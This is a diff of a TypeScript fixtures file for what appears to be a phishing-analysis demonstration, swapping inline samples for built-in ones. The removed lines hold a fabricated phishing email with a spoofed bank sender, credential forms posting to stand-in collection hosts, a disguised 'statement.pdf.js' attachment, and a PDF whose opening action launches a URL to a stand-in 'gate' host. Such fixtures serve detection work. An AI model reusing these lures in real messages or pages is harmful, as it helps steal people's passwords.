@@ -1,58 +1,17 @@
-// Files for the demonstration; everybody and everything named in them is made up.
+import { findBuiltin } from '@assay/analyzers'
 
-/** Ends the head of a mail whose first part is a page. */
-const pageAndMore = [
-  'MIME-Version: 1.0',
-  'Content-Type: multipart/mixed; boundary="outer"',
-  '',
-  '--outer',
-  'Content-Type: text/html; charset=utf-8',
-  '',
-]
+/** Files for the demonstration; everybody and everything named in them is made up. */
+export const phishingMail = await sampleOf('Assay_Mail')
+export const invoicePdf = await sampleOf('Assay_Document')
 
-export const phishingMail = [
-  'Return-Path: <bounce@bulk-sender.example>',
-  'Received: from mx.corp.example (mx.corp.example [10.0.0.5])',
-  ' by mailbox.corp.example with LMTP; Mon, 02 Nov 2026 08:14:09 +0000',
-  'Received: from vps-77.hosting.example (unknown [198.51.100.77])',
-  ' by mx.corp.example (Postfix) with ESMTPS id 4F2; Mon, 02 Nov 2026 08:14:07 +0000 (UTC)',
-  'Authentication-Results: mx.corp.example; spf=softfail smtp.mailfrom=bulk-sender.example;',
-  ' dkim=none; dmarc=fail (p=none) header.from=example-bank.example',
-  'From: "security@example-bank.example" <notice@example-bank-login.test>',
-  'Reply-To: Helpdesk <collect@free-mail.example>',
-  'To: Accounting <accounting@corp.example>',
-  'Subject: Your account is blocked - act now',
-  'Date: Mon, 02 Nov 2026 09:14:00 +0100',
-  'Message-ID: <7f1@vps-77.hosting.example>',
-  ...pageAndMore,
-  '<p>Dear customer, sign in at <a href="http://198.51.100.23/login.php?x=1">',
-  'https://www.example-bank.example/secure</a> within 24 hours.</p>',
-  '<img src="https://track.bulk-sender.example/open.gif">',
-  '<form action="https://collect.example-bank-login.test/post"><input type="password"></form>',
-  '--outer',
-  'Content-Type: application/octet-stream; name="statement.pdf.js"',
-  'Content-Disposition: attachment; filename="statement.pdf.js"',
-  'Content-Transfer-Encoding: base64',
-  '',
-  Buffer.from(
-    '// harmless: made for a demonstration\nvar place = "hxxp://203.0.113.66/gate"\n',
-  ).toString('base64'),
-  '--outer--',
-  '',
-].join('\r\n')
+/** The page that comes with the parcel notices. */
+export const deliveryNote = await sampleOf('Assay_Page')
 
-/** The page that comes with the parcel notices: it asks for a password and sends it elsewhere. */
-export const deliveryNote = [
-  '<!DOCTYPE html>',
-  '<html><head><title>Example Parcel - confirm your delivery</title></head><body>',
-  '<h1>Your parcel is waiting</h1>',
-  '<p>Sign in with your mailbox to choose a new date.</p>',
-  '<form method="post" action="https://collect.parcel-redelivery.test/p">',
-  '<input name="mail" placeholder="Mail address"><input type="password" name="pass">',
-  '<button>Confirm</button></form>',
-  '</body></html>',
-  '',
-].join('\n')
+async function sampleOf(name: string) {
+  const found = await findBuiltin(name)?.description.sample?.()
+  if (!found) throw new Error(`${name} has no sample for the demonstration`)
+  return found.sample
+}
 
 export const parcelMail = [
   'Return-Path: <bounce@parcel-redelivery.test>',
@@ -76,7 +35,7 @@ export const parcelMail = [
   'Content-Disposition: attachment; filename="delivery-note.html"',
   'Content-Transfer-Encoding: base64',
   '',
-  Buffer.from(deliveryNote).toString('base64'),
+  Buffer.from(deliveryNote.content).toString('base64'),
   '--outer--',
   '',
 ].join('\r\n')
@@ -94,17 +53,6 @@ export const newsletter = [
   'Read it at https://tea.friends.example/month and enjoy.',
   '',
 ].join('\r\n')
-
-export const invoicePdf = [
-  '%PDF-1.7',
-  '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj',
-  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
-  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
-  '4 0 obj << /Type /Action /S /JavaScript /JS (app.launchURL\\("http://203.0.113.66/gate"\\);) >> endobj',
-  'trailer << /Root 1 0 R /Size 5 >>',
-  '%%EOF',
-  '',
-].join('\n')
 
 export const proxyLog = Array.from(
   { length: 40 },
